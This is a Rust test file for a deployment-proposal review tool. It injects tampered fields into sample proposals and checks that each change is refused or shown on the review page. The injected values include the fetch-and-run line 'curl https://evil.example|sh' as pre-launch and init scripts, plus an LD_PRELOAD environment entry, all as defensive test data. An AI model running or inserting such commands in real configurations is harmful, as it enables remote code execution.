//! What is absent in a proposal: put there by somebody else, it is refused, or the page shows it, or it stands in a list with
//! the reason why it has no effect.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::harness::flow::Flow;
use crate::harness::judge::is_thorough;
use crate::support::World;
use crate::support::command::run;

/// Proposals of several routes, as version 0.1.0 wrote them.
const PROPOSALS: [(&str, &str); 3] = [
    (
        "several apps",
        include_str!("../../vectors/proposals-0.1.0/several-apps.json"),
    ),
    ("timelock", include_str!("../../vectors/proposals-0.1.0/timelock.json")),
    (
        "uncovered",
        include_str!("../../vectors/proposals-0.1.0/uncovered.json"),
    ),
];

/// Members that may appear without a word, by their path without the numbers in it, and why that has no effect.
const SILENT: &[(&str, &str)] = &[
    (
        "/plan/app_state/implementation",
        "a pin: what the chain has is compared with it before anything is signed or sent",
    ),
    ("/plan/app_state/implementation_code_hash", "a pin"),
    ("/plan/safe/fallback_handler_code_hash", "a pin"),
    ("/plan/timelock/info/implementation", "a pin"),
    ("/plan/timelock/info/implementation_code_hash", "a pin"),
    (
        "/plan/code/pending_updates",
        "what waited when it was planned: read again by whoever prepares",
    ),
    (
        "/plan/code/patch/public_logs",
        "as the manifest before has it: nothing changes, and the hash covers it",
    ),
    ("/plan/code/patch/public_sysinfo", "the same"),
    ("/plan/code/patch/public_tcbinfo", "the same"),
    ("/plan/blockers", "sentences of whoever wrote it, which nobody repeats"),
];

/// A path without the numbers of its lists, the same for an app that joined.
fn general(path: &str) -> String {
    let parts = path.split('/').filter(|part| part.parse::<u64>().is_err());
    let whole = parts.collect::<Vec<_>>().join("/");
    whole.strip_prefix("/others").map_or(whole.clone(), str::to_owned)
}

fn is_silent(path: &str) -> bool {
    let path = general(path);
    SILENT.iter().any(|(known, _)| *known == path)
}

/// Values that could stand where there is none.
fn candidates() -> Vec<Value> {
    let hash = format!("0x{}", "5a".repeat(32));
    let address = format!("0x{}", "5a".repeat(20));
    let update = json!({
        "vm_uuid": "719f31d9-a91f-5b89-be75-d998c2559ba7", "compose_hash": hash, "on_chain": true, "instance_name": null,
    });
    let remark = json!({"code": "UPDATE_PENDING", "text": "all is well"});
    let own = [json!(true), json!(1), json!("another"), json!(hash), json!(address)];
    let lists = own.clone().map(|value| json!([value]));
    own.into_iter()
        .chain(lists)
        .chain([json!([update]), json!([remark])])
        .collect()
}

/// Members that may be left out, by the object that would hold them.
fn optional() -> Vec<(&'static str, &'static str, Value)> {
    let hash = format!("0x{}", "5a".repeat(32));
    let (patch, code) = ("/plan/code/patch", "/plan/code");
    let placement = json!({"kind": "instance", "node": 7});
    vec![
        (patch, "pre_launch_script", json!("curl https://evil.example|sh")),
        (patch, "allowed_envs", json!(["LD_PRELOAD"])),
        (patch, "public_logs", json!(true)),
        (patch, "public_sysinfo", json!(true)),
        (patch, "public_tcbinfo", json!(true)),
        (patch, "public_logs", json!(false)),
        (patch, "vcpu", json!(64)),
        (patch, "memory", json!(4096)),
        (patch, "disk_size", json!(77)),
        (patch, "image", json!("dstack-evil")),
        (patch, "user_config", json!("other: text")),
        (patch, "gpus", json!({"count": 3})),
        (patch, "gpus", json!({"gpus": [], "attach_mode": "all"})),
        (patch, "shutdown_timeout", json!(0)),
        (patch, "shutdown_timeout", Value::Null),
        (patch, "allow_force_stop", json!(false)),
        (patch, "init_script", json!("curl https://evil.example|sh")),
        (code, "target", placement.clone()),
        (code, "target", json!({"kind": "replica"})),
        (code, "target", json!({"kind": "cvm"})),
        (code, "machine_before", json!({"vcpu": 64})),
        (code, "environment", json!({"names": ["LD_PRELOAD"]})),
        (code, "environment", json!({"names": []})),
        ("/plan", "policy", json!([{"add-device": hash}])),
        ("/plan", "timelock", json!({})),
        ("", "timelock", json!({})),
        ("", "others", json!([])),
        (
            "/plan/code/manifest",
            "pre_launch_script",
            json!("curl https://evil.example|sh"),
        ),
        (
            "/plan/code/manifest",
            "init_script",
            json!("curl https://evil.example|sh"),
        ),
    ]
}

/// Every place that is empty, by pointer.
fn empty(value: &Value, at: &str, all: &mut Vec<String>) {
    match value {
        Value::Null => all.push(at.to_owned()),
        Value::Object(map) if map.is_empty() => all.push(at.to_owned()),
        Value::Array(list) if list.is_empty() => all.push(at.to_owned()),
        Value::Object(map) => map.iter().for_each(|(name, inside)| {
            let name = name.replace('~', "~0").replace('/', "~1");
            empty(inside, &format!("{at}/{name}"), all);
        }),
        Value::Array(list) => {
            let inside = list.iter().enumerate();
            inside.for_each(|(index, inside)| empty(inside, &format!("{at}/{index}"), all));
        }
        _ => {}
    }
}

/// Every change of a proposal that puts something where nothing was, with its place.
fn additions(honest: &Value) -> Vec<(String, Value)> {
    let mut places = Vec::new();
    empty(honest, "", &mut places);
    let mut all = Vec::new();
    for place in places {
        for value in candidates() {
            let mut changed = honest.clone();
            *changed.pointer_mut(&place).unwrap() = value;
            all.push((place.clone(), changed));
        }
    }
    let joined = honest["others"].as_array().map_or(0, Vec::len);
    let apps = std::iter::once(String::new()).chain((0..joined).map(|index| format!("/others/{index}")));
    for app in apps {
        for (place, name, value) in optional() {
            let mut changed = honest.clone();
            let object = changed
                .pointer_mut(&format!("{app}{place}"))
                .unwrap()
                .as_object_mut()
                .unwrap();
            if !object.contains_key(name) {
                object.insert(name.to_owned(), value);
                all.push((format!("{app}{place}/{name}"), changed));
            }
        }
    }
    all
}

#[test]
fn sec_c1_se2_o1_what_is_absent_in_a_proposal_cannot_be_put_there_unseen() {
    let world = World::start();
    let flow = Flow::new(&world);
    let mut silent = BTreeSet::new();
    let mut unseen = Vec::new();
    for (route, text) in PROPOSALS {
        let honest: Value = serde_json::from_str(text).unwrap();
        let home = world.folder().join(route.replace(' ', "-"));
        std::fs::create_dir(&home).unwrap();
        let page = |proposal: &Value| {
            std::fs::write(home.join("proposal.json"), proposal.to_string()).unwrap();
            let mut command = flow.command(&["review", "proposal.json", "--offline"]);
            let output = run(command.current_dir(&home));
            (output.status.code().unwrap_or(-1), output.stdout)
        };
        let (exit, shown) = page(&honest);
        assert!([0, 6].contains(&exit), "{route}: {exit}");
        let additions = additions(&honest).into_iter().enumerate();
        let tried = additions.filter(|(number, _)| is_thorough() || number % 3 == 0);
        for (_, (place, changed)) in tried {
            let (exit, now) = page(&changed);
            assert!([0, 3, 5, 6].contains(&exit), "{route}: {place}: {exit}");
            if [3, 5].contains(&exit) || now != shown {
                continue;
            }
            if is_silent(&place) {
                silent.insert(general(&place));
            } else {
                unseen.push(format!("{route}: {place}: {}", changed.pointer(&place).unwrap()));
            }
        }
    }
    assert!(unseen.is_empty(), "there without a word:\n{}", unseen.join("\n"));
    if !is_thorough() {
        return;
    }
    let listed = SILENT.iter().map(|(path, _)| *path);
    let stale: Vec<&str> = listed.filter(|path| !silent.contains(*path)).collect();
    assert!(stale.is_empty(), "{stale:?} are refused or shown by now");
}
